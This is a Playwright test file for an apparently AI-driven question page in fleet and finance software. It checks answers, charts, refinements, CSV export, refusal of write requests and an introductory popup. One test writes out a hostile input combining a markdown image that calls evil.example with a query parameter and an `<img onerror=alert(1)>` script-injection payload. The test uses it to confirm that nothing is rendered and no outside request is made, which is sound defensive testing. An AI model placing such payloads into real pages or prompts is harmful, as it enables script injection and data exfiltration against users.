import { expect, type Page } from '@playwright/test';
import { expectAccessible, signIn, watchConsole } from './sign-in.ts';
import { test } from './test.ts';

const input = (page: Page) =>
  page.getByRole('combobox', { name: 'Ask about fleet, voyages and finances' });

async function ask(page: Page, question: string): Promise<void> {
  await input(page).fill(question);
  await page.keyboard.press('Enter');
  await expect(page.getByRole('heading', { level: 1, name: question })).toBeVisible();
  await expect(page.getByRole('article', { name: 'Answer' })).toBeVisible();
}
const answer = (page: Page) => page.getByRole('article', { name: 'Answer' });

test('AI-01 AI-02 a question is answered in a sentence with a chart, rows that lead to records, and words to change', async ({
  page,
}) => {
  const noComplaints = watchConsole(page);
  await signIn(page, 'finance', '/ask-mainsheet');
  await expect(
    page.getByRole('heading', { name: 'Ask about your fleet, voyages and finances' }),
  ).toBeVisible();
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Who owes us the most?' }).click();
  await expect(page).toHaveURL(/\?q=Who%20owes%20us%20the%20most%3F|\?q=Who\+owes/);
  const shown = answer(page);
  await expect(shown.getByText('has the highest total balance:')).toBeVisible();
  await expect(shown.getByRole('region', { name: 'Total balance by customer' })).toBeVisible();
  const rows = shown.getByRole('grid', { name: 'Rows behind it' });
  await expect(rows.getByRole('row')).not.toHaveCount(1);
  await expectAccessible(page);

  // Every figure says how it was counted.
  await shown
    .getByRole('button', { name: /^Explain total balance/ })
    .first()
    .click();
  await expect(page.getByText(/sum over \d+ invoices?/)).toBeVisible();
  await page.keyboard.press('Escape');

  // A word is changed, and the question in the address with it.
  await shown.getByRole('button', { name: 'state: Unpaid' }).click();
  await page.getByRole('menuitem', { name: 'Overdue' }).click();
  await expect(
    page.getByRole('heading', {
      level: 1,
      name: 'invoices, total balance, by customer, state "overdue"',
    }),
  ).toBeVisible();
  await page.getByRole('button', { name: 'state: Overdue' }).click();
  await page.getByRole('menuitem', { name: 'Leave this out' }).click();
  await expect(page.getByRole('button', { name: 'by: customer' })).toBeVisible();
  await page.goBack();
  await expect(page.getByRole('button', { name: 'state: Overdue' })).toBeVisible();

  // Follow-ups, and the record behind a row.
  await page
    .getByRole('group', { name: 'Go on' })
    .getByRole('button', { name: 'One by one' })
    .click();
  const list = page.getByRole('grid', { name: 'Rows behind it' });
  await list.getByRole('link').first().click();
  await expect(page).toHaveURL(/\/receivables\/invoices\?id=/);
  await page.goBack();
  await expect(
    page.getByRole('navigation', { name: 'Earlier questions' }).getByRole('link'),
  ).toHaveCount(4);
  noComplaints();
});

test('AI-02 what is not understood is named, outcomes are refused, markup is text, rows are saved as CSV', async ({
  page,
}) => {
  const noComplaints = watchConsole(page);
  const outside: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith('http://localhost')) outside.push(request.url());
  });
  await signIn(page, 'finance', '/ask-mainsheet');
  await ask(page, 'Why is the sea salty');
  await expect(answer(page)).toContainText('Nothing was counted.');
  await ask(page, 'create a payout of 5000 USD');
  await expect(answer(page)).toContainText(
    'Questions only read. To create something, go to its page',
  );
  const hostile = 'voyages of ![x](https://evil.example/?d=1) <img src=x onerror=alert(1)>';
  await ask(page, hostile);
  await expect(answer(page).locator('img')).toHaveCount(0);
  await expect(answer(page).getByRole('link', { name: /evil/ })).toHaveCount(0);
  expect(outside, 'P3').toEqual([]);
  await answer(page).getByRole('button').first().click();
  await expect(answer(page)).toBeVisible();

  // Typed by keyboard alone: a begun name is completed.
  await input(page).fill('profit of nord');
  await page.getByRole('option', { name: 'profit of Nordic Hawk' }).waitFor();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await expect(input(page)).toHaveValue('profit of Nordic Hawk');
  await ask(page, 'unpaid invoices');
  const saved = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export as CSV' }).click();
  expect((await saved).suggestedFilename()).toBe('Rows behind it.csv');
  noComplaints();
});

test('AI-01 the palette asks what reads like a question', async ({ page }) => {
  await signIn(page, 'operator');
  const search = page.getByRole('textbox', { name: 'Search commands' });
  // The palette loads after the first paint.
  await expect(async () => {
    await page.keyboard.press('Control+K');
    await expect(search).toBeVisible({ timeout: 1000 });
  }).toPass();
  await search.fill('Which vessel has the best TCE?');
  await page.getByRole('button', { name: 'Ask: Which vessel has the best TCE?' }).click();
  await expect(page).toHaveURL(/\/ask-mainsheet\?q=/);
  await expect(answer(page)).toContainText('has the highest average net TCE:');
});

test('AI-04 AI-05 AI-06 the popup introduces the AI mode once, and its button opens the page in a new tab', async ({
  page,
  context,
}) => {
  const invite = () =>
    page.route('**/v2/contacts/info', async (route) => {
      const answered = await route.fetch();
      const body = await answered.json();
      if (body.data) body.data.ai_invitation = true;
      await route.fulfill({ response: answered, json: body });
    });
  await invite();
  await signIn(page, 'owner');
  const popup = page.getByRole('dialog', { name: 'Introducing AI Mode (Beta)' });
  await expect(popup).toBeVisible();
  await expect(
    popup.getByText(
      'Ask questions about your fleet, voyages and finances in plain language, no setup required.',
      { exact: true },
    ),
  ).toBeVisible();
  await expect(popup.getByRole('button', { name: 'Maybe Later' })).toBeVisible();
  await expectAccessible(page);
  const opened = context.waitForEvent('page');
  await popup.getByRole('button', { name: 'Try AI Mode' }).click();
  const tab = await opened;
  await expect(tab).toHaveURL(/\/ask-mainsheet$/);
  await expect(
    tab.getByRole('heading', { name: 'Ask about your fleet, voyages and finances' }),
  ).toBeVisible();
  await expect(popup).toBeHidden();
  // Its answer opens the popup where it shall open: what is drawn of it is there once the page is quiet.
  const answered = page.waitForResponse('**/v2/contacts/info');
  await page.reload();
  await answered;
  await expect(page.locator('h1').first()).toBeVisible();
  await page.waitForLoadState('networkidle');
  await expect(popup).toBeHidden();
});
